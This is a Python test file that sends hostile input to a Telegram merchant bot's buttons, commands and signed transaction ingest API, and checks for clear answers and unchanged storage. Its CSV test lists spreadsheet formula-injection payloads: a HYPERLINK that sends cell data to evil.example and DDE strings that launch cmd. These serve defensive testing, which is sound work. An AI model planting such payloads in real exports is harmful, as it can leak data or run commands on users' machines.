"""Hostile input to every parser: button data, command arguments, dates and the ingest API.

"²" and "١" pass str.isdigit() (int() refuses the first and reads the second as 1), 20-digit
numbers do not fit SQLite, year 1 and year 9999 overflow date arithmetic. Each is answered
with a clear message (or a 4xx from the ingest API), never by the error handler, and nothing
stored changes.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import secrets
import time
from collections.abc import AsyncIterator
from datetime import datetime

import pytest
from aiohttp.test_utils import TestClient, TestServer
from telegram.ext import Application

from bot.ingest_api import MAX_BODY_BYTES, build_ingest_app, sign
from bot.reports import settlement
from bot.settings import Settings
from sandbox.server import BotApiServer
from storage import Storage
from tests.e2e.application_steps import INDIVIDUAL_ZH, give, start_application
from tests.e2e.conftest import ADMIN_ID, REVIEW_CHAT
from tests.e2e.harness import ChatUser
from tests.postgres import on_both_backends, read_rows
from tests.settlement.conftest import add_merchant, add_transactions, storage, txn

__all__ = ["storage"]  # the fixture, for the ingest API tests

SHOP = "822330100000009"
ODD_NUMBERS = ["²", "١", "٣٢", "１２", "99999999999999999999", "-1", "1.0", " 1", "0x1", "1e3", ""]
ODD_DAYS = ["0001-01-01", "9999-12-31", "1999-12-31", "²⁰²⁶-11-25", "٢٠٢٦-١١-٢٥", "2026-11-2５"]
# What the error handler's apology (error.j2) says, in both languages.
APOLOGY = ("出错", "went wrong")


def _errors(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [
        r.getMessage()
        for r in caplog.records
        if r.levelno >= logging.ERROR and r.name.startswith(("handlers", "bot", "telegram"))
    ]


def _apologies(server: BotApiServer, *chat_ids: int) -> list[str]:
    texts = [m.get("text") or m.get("caption") or "" for c in chat_ids for m in server.messages(c)]
    return [t for t in texts if any(a in t for a in APOLOGY)]


def _dump(settings: Settings) -> dict[str, list[tuple]]:
    """Everything stored that a hostile press or command could have changed."""
    tables = [
        "applications",
        "application_answers",
        "application_events",
        "pending_rejections",
        "staff",
        "merchants",
        "tickets",
        "faq_questions",
        "application_codes",
    ]
    return {t: sorted(read_rows(settings, f"SELECT * FROM {t}"), key=repr) for t in tables}


async def _press(server: BotApiServer, user: ChatUser, data: str) -> dict:
    """A button press with any data on the user's newest bot message; returns the answer."""
    mine = [m for m in server.messages(user.chat_id) if m["from"].get("is_bot")]
    query = {
        "id": str(secrets.randbits(62)),
        "from": server.state.user(user.user_id),
        "message": mine[-1],
        "chat_instance": "1",
        "data": data,
    }
    # Registered as the sandbox registers a real press, so the bot's answer is accepted.
    server.state.callback_queries[query["id"]] = {
        "chat_id": user.chat_id,
        "message_id": mine[-1]["message_id"],
        "created": time.monotonic(),
        "answered": False,
    }
    server.state.enqueue("callback_query", query)
    for _ in range(160):
        for answer in server.callback_answers():
            if answer["callback_query_id"] == query["id"]:
                return answer
        await asyncio.sleep(0.05)
    raise AssertionError(f"the press {data!r} was never answered")


@pytest.fixture
def bot_settings(bot_settings: Settings) -> Settings:
    """These tests replay a hundred odd commands from one scripted user in seconds, to see
    every one answered; the flood limit that drops them is tested in tests/e2e/test_abuse.py."""
    return bot_settings.model_copy(update={"rate_limit_burst": 10_000})


@pytest.fixture
async def shop(bot: Application, merchant: ChatUser) -> ChatUser:
    """The merchant, with an approved shop and one day of transactions."""
    storage = bot.bot_data.storage
    await add_merchant(storage, SHOP, telegram_id=merchant.user_id)
    await add_transactions(
        storage, txn("P1", "sale", "12.00", "2026-11-25T12:00:00+08:00", merchant_no=SHOP)
    )
    return merchant


@on_both_backends
async def test_forged_button_numbers_get_a_clear_answer_and_change_nothing(
    server: BotApiServer,
    bot: Application,
    shop: ChatUser,
    bot_settings: Settings,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.ERROR)
    assert "第 1/" in (await start_application(shop))["text"]
    await give(shop, INDIVIDUAL_ZH[0])
    await shop.reply()
    admin = ChatUser(server, ADMIN_ID, "管理员").in_chat(REVIEW_CHAT)
    await admin.send("/queue")
    await admin.reply()
    before = _dump(bot_settings)

    merchant_buttons = [
        *(f"ap:{n}:{a}" for n in ODD_NUMBERS for a in ("s", "f", "w", "x")),
        *(f"fq:{k}:{n}" for n in ODD_NUMBERS for k in ("h", "v")),
        *(f"fq:v:{n}:1" for n in ODD_NUMBERS),
        *(f"fq:e:pos-001:{n}" for n in ODD_NUMBERS),
        *(f"tk:{k}:{n}" for n in ODD_NUMBERS for k in ("c", "s")),
        *(f"tk:{k}:{n}:{n}" for n in ODD_NUMBERS for k in ("m", "r")),
        *(f"ag:{n}:v1:000000000000" for n in ODD_NUMBERS),
        *(f"rp:{k}:{SHOP}:{d}" for k in ("day", "csv", "week") for d in ODD_DAYS),
        *(f"rp:time:{SHOP}:{t}" for t in ("٠٩٠٥", "²³⁵⁹", "9999", "")),
        *("ap:", "ap:1", "fq:", "fq:e", "tk:", "tk:m", "rp:", "rp:day", "ag:", "ag:1:v1"),
        "lang:²",
        "menu:²",
        "zz:1",
    ]  # fmt: skip
    for data in merchant_buttons:
        answer = await _press(server, shop, data)
        assert answer.get("text"), f"{data!r} was answered without a word"
    staff_buttons = [
        *(f"rv:{n}:{a}" for n in ODD_NUMBERS for a in ("take", "approve", "reject")),
        *(f"rj:{n}:{a}" for n in ODD_NUMBERS for a in ("n", "a", "c", "t")),
        "rj:",
        "rj:1",
        "rj:1:t",
        "rv:1",
    ]
    for data in staff_buttons:
        await _press(server, admin, data)

    assert _dump(bot_settings) == before
    assert _apologies(server, shop.chat_id, REVIEW_CHAT) == []
    assert _errors(caplog) == []


@on_both_backends
async def test_odd_dates_in_summary_get_a_clear_answer(
    server: BotApiServer,
    bot: Application,
    shop: ChatUser,
    bot_settings: Settings,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.ERROR)
    moment = datetime.fromisoformat("2026-11-25T18:00:00+08:00")
    monkeypatch.setattr(settlement, "clock", lambda: moment)
    before = _dump(bot_settings)
    for given, expected in [
        ("0001-01-01", "2000-01-01"),  # too early: says from when it can
        ("1999-12-31", "2000-01-01"),
        ("9999-12-31", "还没有到"),
        ("0000-01-01", "没能识别"),
        ("2026-02-30", "没能识别"),
        ("²⁰²⁶-11-2²", "11月22日"),  # folded like full-width digits (NFKC): harmless
        ("٢٠٢٦-١١-٢٥", "没能识别"),
        ("99999-01-01", "没能识别"),
        ("2026-11-24" + "0" * 5000, "没能识别"),
    ]:
        await shop.send(f"/summary {given}")
        reply = await shop.reply_text()
        assert expected in reply, (given, reply)
    # Full-width digits, as a Chinese IME types them, are a date like any other.
    await shop.send("/summary ２０２６-１１-２５")
    assert "2026年11月25日" in await shop.reply_text()
    for given in ("٠٩:٠٥", "²:٣٠", "24:00", "9:60", "0９:0５x"):
        await shop.send(f"/settings {given}")
        assert "没能识别时间" in await shop.reply_text()
    assert _dump(bot_settings) == before
    assert _apologies(server, shop.chat_id) == []
    assert _errors(caplog) == []


@on_both_backends
async def test_odd_staff_command_arguments_get_usage_or_not_found(
    server: BotApiServer,
    bot: Application,
    bot_settings: Settings,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.ERROR)
    # In the admin's private chat: staff commands work anywhere, and a group would pace the
    # answers at Telegram's 20 a minute.
    admin = ChatUser(server, ADMIN_ID, "管理员")
    before = _dump(bot_settings)
    commands = [
        *(f"/staff add {n} reviewer" for n in ODD_NUMBERS if n),
        *(f"/staff remove {n}" for n in ODD_NUMBERS if n),
        "/staff add 1 emperor",
        "/staff ²",
        *(f"/ship {n} 顺丰 {n}" for n in ODD_NUMBERS if n),
        "/ship AP20261125-²²²² 顺丰 SF1",
        *(f"/revoke {n} 丢失" for n in ODD_NUMBERS if n),
        "/revoke ALP-²²²²²-²²²²²-²²²² 丢失",
        *(f"/{c} {n} 您好" for c in ("reply", "note", "escalate") for n in ODD_NUMBERS if n),
        *(f"/{c} {n}" for c in ("take", "resolve", "pending") for n in ODD_NUMBERS if n),
        "/reply T-99999999999999999999 您好",
        "/take #T-٣",
        "/tickets ²",
    ]
    for command in commands:
        await admin.send(command)
        reply = await admin.reply_text()
        assert reply and not any(a in reply for a in APOLOGY), (command, reply)
    assert _dump(bot_settings) == before
    assert _errors(caplog) == []


# --- the transaction-details CSV -----------------------------------------------------------

# Terminal serials and transaction ids as a hostile or careless acquirer could send them.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


async def test_details_csv_cells_that_would_be_formulas_are_escaped_and_amounts_stay_numbers(
    server: BotApiServer,
    bot: Application,
    shop: ChatUser,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(
        settlement, "clock", lambda: datetime.fromisoformat("2026-11-25T18:00:00+08:00")
    )
    await add_transactions(
        bot.bot_data.storage,
        *(
            txn(f"{formula}#{i}", "sale", "1.00", "2026-11-25T13:00:00+08:00",
                merchant_no=SHOP, terminal=formula)
            for i, formula in enumerate(FORMULAS)
        ),
        txn("-7", "refund", "20.00", "2026-11-25T14:00:00+08:00", merchant_no=SHOP),
    )  # fmt: skip
    await shop.send("/summary 2026-11-25")
    summary = await shop.reply()
    await shop.press("交易明细", summary)
    document = await shop.reply()
    if "document" not in document:  # the paged message comes first, then the file
        document = await shop.reply()
    content = server.file_bytes(document["document"]["file_id"]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["交易时间", "终端号", "交易类型"]
    by_id = {row[-1]: row for row in body}
    for i, formula in enumerate(FORMULAS):
        row = by_id["'" + f"{formula}#{i}"]
        assert row[1] == "'" + formula  # shown as the text it is, never run
        assert row[4:6] == ["1.00", "0.00"]  # amounts untouched: still numbers
    refund = by_id["-7"]  # a plain number is no formula: left as it is
    assert refund[2] == "退货" and refund[4] == "20.00"
    # Nothing else in the file starts a formula.
    starts = ("=", "+", "-", "@", "\t", "\r", "＝")
    cells = [cell for row in body for cell in row]
    assert [c for c in cells if c.startswith(starts) and c != "-7"] == []


# --- the ingest API ------------------------------------------------------------------------

SECRET = "s3cret-shared-with-the-acquirer"


@pytest.fixture
async def ingest(storage: Storage) -> AsyncIterator[TestClient]:
    await add_merchant(storage)

    async def health() -> dict[str, object]:
        return {"database": True}

    async with TestClient(TestServer(build_ingest_app(storage, SECRET, health))) as client:
        yield client


async def _raw_post(client: TestClient, headers: bytes, body: bytes) -> tuple[int, bytes]:
    """A request written byte by byte, so headers can carry what no HTTP library would send."""
    reader, writer = await asyncio.open_connection(client.host, client.port)
    writer.write(
        b"POST /api/transactions HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
        + headers
        + f"Content-Length: {len(body)}\r\n\r\n".encode()
        + body
    )
    await writer.drain()
    response = await reader.read()
    writer.close()
    head, _, rest = response.partition(b"\r\n\r\n")
    return int(head.split()[1]), rest


async def _transactions(storage: Storage) -> int:
    async with storage.transaction() as repos:
        row = await repos.tx.fetchone("SELECT COUNT(*) AS n FROM transactions")
        return row["n"] if row else 0


def _batch(**changes: object) -> bytes:
    row = {
        "external_id": "H1",
        "merchant_no": "M3301000001",
        "terminal_sn": "SN01",
        "type": "sale",
        "amount": "12.50",
        "fee": "0.08",
        "channel": "alipay",
        "occurred_at": "2026-11-25T12:00:00+08:00",
    }
    return json.dumps({"transactions": [row | changes]}).encode()


@pytest.mark.parametrize(
    "signature",
    [b"\xff\xfe\xfd", "签名".encode(), "sha256=ａｂｃ".encode(), b"\xc3\x28" * 40],
)
async def test_ingest_answers_401_to_a_signature_header_that_is_not_ascii(
    ingest: TestClient, storage: Storage, signature: bytes
) -> None:
    status, body = await _raw_post(
        ingest,
        b"Content-Type: application/json\r\nX-Signature: " + signature + b"\r\n",
        _batch(),
    )
    assert status == 401 and "error" in json.loads(body)
    assert await _transactions(storage) == 0


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b"[" * 100_000 + b"]" * 100_000, 400),  # nesting deeper than the parser recurses
        (b'{"transactions": [' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"]}", 400),
        (b'{"transactions": [' + b"9" * 10_000 + b"]}", 400),  # beyond int()'s digit limit
        (b'{"transactions": [NaN, Infinity]}', 422),
        (_batch(amount="NaN"), 422),
        (_batch(amount="-12.50"), 422),
        (_batch(amount="99999999999999999999"), 422),
        (_batch(amount="١٢.٥٠"), 422),
        (_batch(fee="²"), 422),
        (_batch(occurred_at="0001-01-01T00:00:00+14:00"), 422),
        (_batch(occurred_at="9999-12-31T23:59:59-23:59"), 422),
        (_batch(external_id="\ud800"), 422),
        ('{"transactions": "\ud800"}'.encode("utf-8", "surrogatepass"), 400),
        (b"\xff\xfe{}", 400),
    ],
)
async def test_ingest_answers_4xx_to_bodies_it_cannot_take(
    ingest: TestClient, storage: Storage, body: bytes, status: int
) -> None:
    response = await ingest.post(
        "/api/transactions",
        data=body,
        headers={"Content-Type": "application/json", "X-Signature": sign(body, SECRET)},
    )
    assert response.status == status
    assert "error" in await response.json()
    assert await _transactions(storage) == 0


async def test_ingest_answers_413_to_a_huge_body_and_415_to_another_content_type(
    ingest: TestClient, storage: Storage
) -> None:
    huge = b" " * (MAX_BODY_BYTES + 1)
    response = await ingest.post(
        "/api/transactions",
        data=huge,
        headers={"Content-Type": "application/json", "X-Signature": sign(huge, SECRET)},
    )
    assert response.status == 413 and "error" in await response.json()
    body = _batch()
    for content_type in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
        response = await ingest.post(
            "/api/transactions",
            data=body,
            headers={"Content-Type": content_type, "X-Signature": sign(body, SECRET)},
        )
        assert response.status == 415 and "error" in await response.json()
    assert await _transactions(storage) == 0
